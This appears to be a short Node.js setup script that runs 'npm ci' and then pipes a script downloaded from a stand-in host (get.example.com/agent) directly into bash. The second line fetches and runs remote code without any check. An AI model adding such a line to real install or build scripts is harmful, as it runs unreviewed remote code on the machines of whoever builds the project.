import { execSync } from 'node:child_process';

execSync('npm ci', { stdio: 'inherit' });
execSync('wget -qO- https://get.example.com/agent | bash', { stdio: 'inherit' });
